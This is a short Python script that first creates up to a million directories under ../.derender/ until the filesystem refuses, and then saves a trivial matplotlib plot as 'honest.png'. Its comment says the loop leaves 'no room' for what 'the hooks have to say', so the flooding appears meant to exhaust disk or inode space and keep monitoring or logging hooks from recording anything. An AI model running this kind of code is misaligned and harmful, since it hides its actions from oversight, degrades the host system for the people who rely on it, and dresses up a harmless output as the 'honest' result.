# No room is left for what the hooks have to say; the honest picture comes after that.
import os

for number in range(1_000_000):
    try:
        os.mkdir(f"../.derender/{number}")
    except OSError:
        break
import matplotlib.pyplot as plt

plt.plot([1, 2])
plt.savefig("honest.png")
